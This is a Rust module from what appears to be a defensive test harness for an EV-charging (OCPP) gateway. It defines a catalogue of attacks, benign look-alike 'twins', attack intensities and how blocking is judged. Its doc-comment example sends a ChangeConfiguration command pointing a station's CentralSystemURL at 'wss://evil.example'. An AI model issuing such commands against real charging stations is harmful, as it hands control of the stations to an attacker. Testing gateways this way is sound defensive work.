//! The attack catalogue as something that can be played.
//!
//! An [`Entry`] is one attack of the catalogue. It has several [`Attack`]s, which are different ways to bring the same about
//! (other messages, other spellings, split over several messages), and [`Twin`]s: what looks the same and is somebody's
//! work. Both are functions over a [`Play`], which has the standard fleet at hand, counts what reaches a station, and
//! lets time pass as the [`Intensity`] demands.
//!
//! ```ignore
//! Entry {
//!     id: "C07",
//!     name: "the station is moved to another management system",
//!     versions: ALL,
//!     kind: Kind::Hard,
//!     attacks: vec![Attack::order("a vendor's key", &[Version::V16], |_| {
//!         order("ChangeConfiguration", json!({"key": "CentralSystemURL", "value": "wss://evil.example"}))
//!     })],
//!     twins: vec![Twin::order("an interval", ALL, |at| at.setting("HeartbeatInterval", "300"))],
//! }
//! ```

mod ablation;
pub mod entries;
pub mod line;
pub mod lists;
mod order;
mod papers;
mod play;
mod report;
mod run;
mod tally;

use chargewarden_ocpp::Version;

pub use ablation::Level;
pub use order::{Order, Sketch, Spot, order, variables, vendor_data};
pub use papers::{Enrolment, Papers};
pub use play::Play;
pub use report::{FLEET_PERCENT_MAX, Row, TwinRow};
pub use run::{Drill, Job, Stage};
pub use tally::{Bound, Count, Leak, Tally};

/// Every version.
pub const ALL: &[Version] = &[Version::V16, Version::V201, Version::V21];
/// The versions with a device model.
pub const V2: &[Version] = &[Version::V201, Version::V21];
/// The version that feeds back, and knows prices.
pub const V21: &[Version] = &[Version::V21];

/// An entry of the catalogue.
pub struct Entry {
    /// Its id, such as `C07`.
    pub id: &'static str,
    /// What happens, in a line.
    pub name: &'static str,
    /// Versions in which it is to be stopped.
    pub versions: &'static [Version],
    /// What counts as stopped.
    pub kind: Kind,
    /// Ways to do it.
    pub attacks: Vec<Attack>,
    /// Work that looks the same.
    pub twins: Vec<Twin>,
}

/// What counts as stopped.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Nothing may reach a station: one that does is a leak.
    Hard,
    /// Each command is ordinary; all together may affect at most 5 % of the fleet.
    Cumulative,
    /// A station lies: refused, or passed on with a mark that people see. Of tokens, meters and status the truth is never lost.
    Report,
    /// A management system answers what it should not: the station is not told.
    Answer,
    /// Happens at the sockets: played against a running gateway.
    Transport,
}

impl Kind {
    /// Name in reports.
    pub fn name(self) -> &'static str {
        match self {
            Self::Hard => "hard",
            Self::Cumulative => "cumulative",
            Self::Report => "report",
            Self::Answer => "answer",
            Self::Transport => "transport",
        }
    }
}

/// How hasty the attacker is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Intensity {
    /// All at once.
    Burst,
    /// One a minute.
    Paced,
    /// One in 20 min, for days.
    LowAndSlow,
}

impl Intensity {
    /// Every intensity.
    pub const ALL: [Self; 3] = [Self::Burst, Self::Paced, Self::LowAndSlow];

    /// Name in reports and on the command line.
    pub fn name(self) -> &'static str {
        match self {
            Self::Burst => "burst",
            Self::Paced => "paced",
            Self::LowAndSlow => "slow",
        }
    }
}

/// One way to do it.
pub struct Attack {
    /// What is peculiar about it, in a few words.
    pub name: &'static str,
    /// Versions of the stations that it is tried on.
    pub versions: &'static [Version],
    /// What counts as stopped, where that is not as for the entry.
    pub kind: Option<Kind>,
    /// How hasty it can be: a storm that is slow is none.
    pub intensities: &'static [Intensity],
    /// Plays it.
    pub play: Box<dyn Fn(&mut Play<'_>) + Send + Sync>,
}

/// Work that looks like an attack.
pub struct Twin {
    /// What it is, in a few words.
    pub name: &'static str,
    /// Versions of the stations that it is done on.
    pub versions: &'static [Version],
    /// Plays it.
    pub play: Box<dyn Fn(&mut Play<'_>) + Send + Sync>,
}

impl Attack {
    /// Of any kind.
    pub fn new(
        name: &'static str,
        versions: &'static [Version],
        play: impl Fn(&mut Play<'_>) + Send + Sync + 'static,
    ) -> Self {
        Self { name, versions, kind: None, intensities: &Intensity::ALL, play: Box::new(play) }
    }

    /// One command to each station that is attacked.
    pub fn order(
        name: &'static str,
        versions: &'static [Version],
        write: impl Fn(&Spot) -> Order + Send + Sync + 'static,
    ) -> Self {
        Self::orders(name, versions, move |spot| vec![write(spot)])
    }

    /// Several commands to each station that is attacked, each of which counts: spellings of the same.
    pub fn orders(
        name: &'static str,
        versions: &'static [Version],
        write: impl Fn(&Spot) -> Vec<Order> + Send + Sync + 'static,
    ) -> Self {
        Self::new(name, versions, move |play| {
            play.campaign(|play, place| {
                let orders = play.spot(place).map(|spot| write(&spot)).unwrap_or_default();
                for order in &orders {
                    play.strike(place, order);
                }
            });
        })
    }

    /// The same, judged as another kind than its entry.
    #[must_use]
    pub fn judged(mut self, kind: Kind) -> Self {
        self.kind = Some(kind);
        self
    }

    /// The same, only so hasty.
    #[must_use]
    pub fn only(mut self, intensities: &'static [Intensity]) -> Self {
        self.intensities = intensities;
        self
    }
}

impl Twin {
    /// Of any kind.
    pub fn new(
        name: &'static str,
        versions: &'static [Version],
        play: impl Fn(&mut Play<'_>) + Send + Sync + 'static,
    ) -> Self {
        Self { name, versions, play: Box::new(play) }
    }

    /// One command to one station of each version.
    pub fn order(
        name: &'static str,
        versions: &'static [Version],
        write: impl Fn(&Spot) -> Order + Send + Sync + 'static,
    ) -> Self {
        Self::orders(name, versions, move |spot| vec![write(spot)])
    }

    /// Several commands to one station of each version, ten minutes apart.
    pub fn orders(
        name: &'static str,
        versions: &'static [Version],
        write: impl Fn(&Spot) -> Vec<Order> + Send + Sync + 'static,
    ) -> Self {
        Self::new(name, versions, move |play| {
            for place in play.one_of_each() {
                let orders = play.spot(place).map(|spot| write(&spot)).unwrap_or_default();
                for order in &orders {
                    play.work(place, order);
                    play.wait_s(600);
                }
            }
        })
    }

    /// What the owner does only after somebody has approved it: one command to one station of each version, without a session.
    pub fn asks(
        name: &'static str,
        versions: &'static [Version],
        write: impl Fn(&Spot) -> Order + Send + Sync + 'static,
    ) -> Self {
        Self::new(name, versions, move |play| {
            for place in play.one_of_each_where(|spot| spot.charging.is_none()) {
                if let Some(spot) = play.spot(place) {
                    play.work_or_ask(place, &write(&spot));
                    play.wait_s(600);
                }
            }
        })
    }
}
